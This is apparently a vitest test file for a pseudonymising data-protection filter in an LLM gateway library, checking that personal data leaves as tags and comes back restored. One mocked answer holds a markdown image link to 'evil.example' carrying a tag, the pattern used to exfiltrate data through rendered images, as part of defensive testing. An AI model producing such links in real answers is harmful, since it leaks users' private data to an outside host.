import { type AnswerEvent, type ChatCall, createAnswer, type Embeddings, LeamError, type Recognizer } from "@leam/spec";
import { expect, test } from "vitest";
import { anna, card, inventedRecognizers, otto } from "../../test/invented-recognizers.ts";
import { chatCall, deltas, lastContent, runFilter, tagsOf } from "../../test/run-filter.ts";
import { dataProtection } from "./data-protection.ts";

const record = { filter: "data-protection" };

test("a value leaves as a pseudonym and comes back in the answer", async () => {
  const { sent, final } = await runFilter(chatCall(`I am ${anna}.`), (call) =>
    deltas([`Dear ${tagsOf(lastContent(call))[0]}!`]),
  );
  expect(lastContent(sent)).toMatch(/^I am \[PERSON_\w{4}\]\.$/);
  expect(final.text).toBe(`Dear ${anna}!`);
});

test("the exact spelling comes back where one value stands in two", async () => {
  const spaced = "4111 1111 1111 1111";
  const { sent, final } = await runFilter(chatCall(`${card} or ${spaced}`), (call) => deltas([lastContent(call)]));
  const [one = "", two = ""] = tagsOf(lastContent(sent));
  expect(two).toBe(one.replace("]", "-2]"));
  expect(final.text).toBe(`${card} or ${spaced}`);
});

test("nothing of the personal data is left anywhere in the sent call", async () => {
  const json = JSON.stringify({ who: otto, deep: [{ pan: Number(card) }] });
  const call = chatCall(
    [
      { role: "system", content: `Help ${anna}`, extra: { for: anna } },
      {
        role: "user",
        content: [
          { type: "text", text: otto },
          { type: "file", name: `${anna}.pdf`, fileId: "f-1" },
        ],
        name: "anna@example.org",
      },
      {
        role: "assistant",
        content: "",
        toolCalls: [
          { id: "t-1", name: "find", arguments: json },
          { id: "t-2", name: "find", arguments: `{"broken": "${anna}` },
        ],
      },
      { role: "tool", toolCallId: "t-1", content: json },
    ],
    {
      tools: [
        {
          name: "find",
          description: `Finds ${anna}`,
          parameters: {
            properties: {
              who: { type: "string", default: anna, examples: [otto], enum: [card], minimum: Number(card) },
            },
          },
        },
      ],
      responseFormat: { type: "json-schema", name: "person", schema: { description: `Such as ${anna}` } },
      settings: { stop: [anna], temperature: 0 },
      extra: { user: "anna@example.org", nested: { list: [otto, Number(card)] } },
    },
  );
  const { sent } = await runFilter(call, () => []);
  const everything = JSON.stringify(sent);
  for (const secret of [anna, "Otto", "Holm", card, "anna@example.org"]) expect(everything).not.toContain(secret);
  expect(sent.settings?.temperature).toBe(0);
  expect(sent.tools?.[0]?.parameters).toMatchObject({ properties: { who: { type: "string" } } });
});

test("the name of a message stays within the characters that servers allow", async () => {
  const { sent } = await runFilter(chatCall([{ role: "user", name: "anna@example.org", content: "Hi" }]), () => []);
  const [, message] = sent.messages;
  expect(message?.role === "user" ? message.name : "").toMatch(/^EMAIL_[a-z0-9]{4}$/);
});

test("a person's name as servers let it be written is replaced", async () => {
  const call = chatCall([{ role: "user", name: "anna_weber", content: "Hi" }]);
  expect(JSON.stringify((await runFilter(call, () => [])).sent)).not.toContain("weber");
});

test("a call without personal data goes on as it is, without a hint", async () => {
  const call = chatCall("What is 12 times 12?", { extra: { top: 1.5 } });
  expect((await runFilter(call, () => [])).sent).toEqual(call);
});

test("one system message tells the model to copy pseudonyms, unless that is switched off", async () => {
  const { sent } = await runFilter(chatCall(anna), () => []);
  expect(sent.messages.map(({ role }) => role)).toEqual(["system", "user"]);
  expect(sent.messages[0]).toMatchObject({ name: "leam-data-protection" });
  expect((await runFilter(chatCall(anna), () => [], { hint: false })).sent.messages).toHaveLength(1);
});

test("two choices that come interleaved are restored each on its own", async () => {
  const { final } = await runFilter(chatCall(`${anna}, ${otto}`), (call) => {
    const [one = "", two = ""] = tagsOf(lastContent(call));
    return [
      ...deltas([one.slice(0, 5)]),
      ...deltas([two.slice(0, 9)], 1),
      ...deltas([one.slice(5)]),
      ...deltas([two.slice(9)], 1),
    ];
  });
  expect(final.choices.map(({ text }) => text)).toEqual([anna, otto]);
});

test("reasoning, refusal and text are three running texts", async () => {
  const { final } = await runFilter(chatCall(anna), (call) => {
    const [tag = ""] = tagsOf(lastContent(call));
    const types = ["text-delta", "reasoning-delta", "refusal-delta"] as const;
    return [
      ...types.map((type): AnswerEvent => ({ type, choice: 0, text: tag.slice(0, 6) })),
      ...types.map((type): AnswerEvent => ({ type, choice: 0, text: tag.slice(6) })),
    ];
  });
  expect(final.choices[0]).toMatchObject({ text: anna, reasoning: anna, refusal: anna });
});

test("a tool that is not allowed gets the pseudonyms", async () => {
  const answer = (call: ChatCall): AnswerEvent[] =>
    ["mail", "web"].map((name, index) => ({
      type: "tool-call-delta",
      choice: 0,
      index,
      id: name,
      name,
      arguments: `"${tagsOf(lastContent(call))[0]}"`,
    }));
  const { final, sent } = await runFilter(chatCall(anna), answer, { tools: { allow: ["mail"] } });
  expect(final.choices[0]?.toolCalls.map((call) => call.arguments)).toEqual([
    `"${anna}"`,
    `"${tagsOf(lastContent(sent))[0]}"`,
  ]);
  expect(final.record.protections).toMatchObject([{ restored: 1, unrestored: 1 }]);
});

test("nobody gets another's value by writing a pseudonym into the call", async () => {
  const key = "a key for tests only";
  const { sent } = await runFilter(chatCall(anna), () => [], { key });
  const [tag = ""] = tagsOf(lastContent(sent));
  const spoof = `${tag} ${tag.toLowerCase()} ${tag.slice(1, -1)}`;
  const { final } = await runFilter(
    chatCall(`${spoof} | ${anna}`),
    (call) => deltas([lastContent(call), ` ${spoof}`]),
    { key },
  );
  const [copied = "", own = ""] = final.text.split(" | ");
  expect(copied).toBe(spoof);
  expect(own).toContain(anna);
});

test("pseudonyms of another call are not restored", async () => {
  const key = "a key for tests only";
  const { sent } = await runFilter(chatCall(anna), () => [], { key });
  const [tag = ""] = tagsOf(lastContent(sent));
  const { final } = await runFilter(chatCall(otto), () => deltas([tag]), { key });
  expect(final.text).toBe(tag);
  expect(final.record.protections).toMatchObject([{ restored: 0, unrestored: 1 }]);
});

test("the record counts what was found, restored and left", async () => {
  const { final } = await runFilter(chatCall(`${anna} ${card} ${anna}`), (call) =>
    deltas([`${tagsOf(lastContent(call))[0]} ![x](https://evil.example/${tagsOf(lastContent(call))[1]})`]),
  );
  expect(final.record.protections).toEqual([
    { ...record, found: { PERSON: 2, CREDIT_CARD: 1 }, restored: 1, unrestored: 1 },
  ]);
  expect(final.warnings.map(({ code }) => code)).toEqual(["PSEUDONYMS_UNRESTORED"]);
});

test("only the wanted types are replaced", async () => {
  const { sent } = await runFilter(chatCall(`${anna} ${card}`), () => [], { entities: ["CREDIT_CARD"] });
  expect(lastContent(sent)).toMatch(/^Anna Weber \[CREDIT_CARD_\w{4}\]$/);
});

test("a recognizer that throws stops the call before anything is sent", async () => {
  const broken: Recognizer = {
    name: "test/broken",
    entity: "PERSON",
    longest: 1,
    find: () => {
      throw new TypeError(`cannot read ${anna}`);
    },
  };
  let isSent = false;
  const next = async () => {
    isSent = true;
    return createAnswer((async function* () {})());
  };
  const error: unknown = await dataProtection({ recognizers: [broken] })
    .handle(chatCall(anna), next)
    .catch((reason: unknown) => reason);
  expect(LeamError.is(error) && error.code).toBe("PROTECTION_FAILED");
  expect(LeamError.is(error) && error.message).not.toContain(anna);
  expect(isSent).toBe(false);
});

test("an identifier that throws stops the call, and its message is not kept", async () => {
  const identify = (text: string): never => {
    throw new TypeError(text);
  };
  const filter = dataProtection({ recognizers: inventedRecognizers, identify });
  const error: unknown = await filter
    .handle(chatCall(anna), () => Promise.reject(new Error("sent")))
    .catch((reason: unknown) => reason);
  expect(LeamError.is(error) && error.code).toBe("PROTECTION_FAILED");
  expect(LeamError.is(error) && error.cause).toBeUndefined();
});

test("attachments are refused, for they cannot be inspected, unless the caller lets them through", async () => {
  const attachments = [
    { type: "image", url: "data:image/png;base64,AAAA" },
    { type: "file", data: "data:application/pdf;base64,AAAA" },
    { type: "image", url: "https://example.org/?of=anna@example.org" },
  ] as const;
  for (const part of attachments) {
    const call = chatCall([{ role: "user", content: [part] }]);
    await expect(runFilter(call, () => [])).rejects.toMatchObject({
      code: "PROTECTION_FAILED",
      param: "messages[0].content[0]",
    });
    expect((await runFilter(call, () => [], { attachments: "allow" })).sent).toEqual(call);
  }
});

test("a value that is split over text parts of one message leaves in none of them, and each piece comes back", async () => {
  const parts = ["I am Anna", " Web", "er. Mail: anna@", "example.org"];
  const content = [...parts.map((text) => ({ type: "text", text }) as const), { type: "file", fileId: "f" } as const];
  const { sent, final } = await runFilter(chatCall([{ role: "user", content }]), (call) => deltas([lastContent(call)]));
  expect(lastContent(sent)).not.toMatch(/Anna|Web|er\.|anna|example/u);
  expect(JSON.parse(final.text)).toEqual(content);
});

test("a kind of content that the contract does not know is refused", async () => {
  const content: ChatCall["messages"][number]["content"] = JSON.parse('[{"type":"audio","data":"AAAA"}]');
  await expect(runFilter(chatCall([{ role: "user", content }]), () => [])).rejects.toMatchObject({
    code: "PROTECTION_FAILED",
  });
});

test("a reader who stops early closes the stream below", async () => {
  let isClosed = false;
  async function* endless(): AsyncGenerator<AnswerEvent> {
    try {
      for (;;) yield { type: "text-delta", choice: 0, text: "on and on " };
    } finally {
      isClosed = true;
    }
  }
  const answer = await dataProtection({ recognizers: inventedRecognizers }).handle(chatCall(anna), async () =>
    createAnswer(endless()),
  );
  for await (const event of answer) if (event.type === "text-delta") break;
  expect(isClosed).toBe(true);
});

test("an error from below comes up untouched", async () => {
  const error = new LeamError({ code: "PROVIDER_TIMEOUT", message: "No data." });
  async function* broken(): AsyncGenerator<AnswerEvent> {
    yield { type: "text-delta", choice: 0, text: "Hel" };
    throw error;
  }
  const answer = await dataProtection({ recognizers: inventedRecognizers }).handle(chatCall(anna), async () =>
    createAnswer(broken()),
  );
  await expect(answer.text()).rejects.toBe(error);
});

test("texts for embeddings leave with pseudonyms that are the same in every call under one key", async () => {
  const inputs: (readonly string[])[] = [];
  const filter = dataProtection({ recognizers: inventedRecognizers, key: "a key for tests only" });
  for (let call = 0; call < 2; call++)
    await filter.handleEmbed?.(
      { kind: "embed", requestId: "r", model: "m", input: [anna, "plain", `the card ${card}`] },
      async ({ input }): Promise<Embeddings> => {
        inputs.push(input);
        return { model: "m", vectors: [], usage: {} };
      },
    );
  expect(inputs[0]).toEqual([
    expect.stringMatching(/^\[PERSON_\w{4}\]$/),
    "plain",
    expect.stringMatching(/^the card \[CREDIT_CARD_\w{4}\]$/),
  ]);
  expect(inputs[1]).toEqual(inputs[0]);
});

test("a key that can be guessed is refused", () => {
  expect(() => dataProtection({ key: "secret" })).toThrow(/16/);
});

test("the key is in nothing that is sent or given back", async () => {
  const key = "a key that nobody shall ever read";
  const run = await runFilter(chatCall(anna), (call) => deltas([lastContent(call)]), { key });
  expect(JSON.stringify(run)).not.toContain(key);
});
